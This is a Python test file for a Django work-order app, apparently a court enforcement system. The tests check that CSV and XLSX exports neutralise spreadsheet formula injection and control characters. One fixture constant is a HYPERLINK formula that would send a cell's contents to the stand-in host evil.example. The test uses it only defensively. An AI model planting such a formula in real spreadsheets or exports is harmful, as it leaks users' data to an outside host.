"""Exports are safe to open: text that looks like a formula stays text, and a
control character pasted into a subject or a reason cannot break the file."""
import csv
import io

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from enforcement_hub.exports import safe_cell
from tests.factories import at, make_case, make_work_order
from workorders import services
from workorders.models import Escalation, EscalationStep, Status, WorkOrder

pytestmark = pytest.mark.django_db

NOW = "2026-11-18 10:00"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(at(NOW), tick=False):
        yield


@pytest.fixture
def chronic(ref, judge, liaison):
    """An overdue work order on the supervision list (so on the agenda too)."""
    case = make_case(judge=judge)
    with time_machine.travel(at("2026-11-02 10:00"), tick=False):
        wo = make_work_order(case=case, judge=judge, status=Status.SIGNED, now=at("2026-11-02 10:00"))
    Escalation.objects.bulk_create([Escalation(work_order=wo, step=s, due_at=wo.due_at, fired_at=wo.due_at)
                                    for s in range(EscalationStep.OVERDUE, EscalationStep.SUPERVISION + 1)])
    WorkOrder.objects.filter(pk=wo.pk).update(escalation_level=EscalationStep.SUPERVISION)
    return wo


def stored_subject(wo, subject):
    """What older rows may already hold, whatever the forms now refuse."""
    WorkOrder.objects.filter(pk=wo.pk).update(subject=subject)


def csv_rows(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body[1:])))


def xlsx_cells(response):
    assert response.status_code == 200, response.status_code
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [list(r) for r in ws.iter_rows()]


@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\r=x", "'\r=x"), ("查询户籍", "查询户籍"), ("a=b", "a=b"), ("", ""),
    ("a\x0bb\x00c\x1fd", "a\nbcd"), (3, 3), (None, None),
])
def test_safe_cell_for_csv(value, expected):
    assert safe_cell(value) == expected


def test_csv_export_neutralises_formulas(client, chronic, center):
    stored_subject(chronic, FORMULA)
    client.force_login(center)
    rows = csv_rows(client.get(reverse("dashboards:overdue_export") + "?format=csv"))
    assert rows[1][2] == "'" + FORMULA


def test_xlsx_exports_write_formulas_as_text(client, chronic, center):
    stored_subject(chronic, FORMULA)
    client.force_login(center)
    for url, column in ((reverse("dashboards:overdue_export") + "?format=xlsx", 2),
                        (reverse("dashboards:agenda") + "?format=xlsx", 4)):
        cell = xlsx_cells(client.get(url))[1][column]
        assert cell.data_type == "s" and cell.value == FORMULA   # the visible text is kept


def test_a_control_character_does_not_break_the_xlsx_exports(client, chronic, center, liaison):
    stored_subject(chronic, "查询\x0b户籍\x01")
    # A reason with a control character, stored before the forms refused them.
    services.extension_request(work_order=chronic, actor=liaison, days=2, reason="需调档")
    chronic.events.filter(action="extension_requested").update(details={"reason": "需\x0c调档\x07"})
    client.force_login(center)
    rows = xlsx_cells(client.get(reverse("dashboards:overdue_export") + "?format=xlsx"))
    assert rows[1][2].value == "查询\n户籍"
    rows = xlsx_cells(client.get(reverse("dashboards:agenda") + "?format=xlsx"))
    assert rows[1][4].value == "查询\n户籍"
    assert client.get(reverse("dashboards:scorecards_export")).status_code == 200
    rows = csv_rows(client.get(reverse("dashboards:overdue_export") + "?format=csv"))
    assert rows[1][2] == "查询\n户籍"
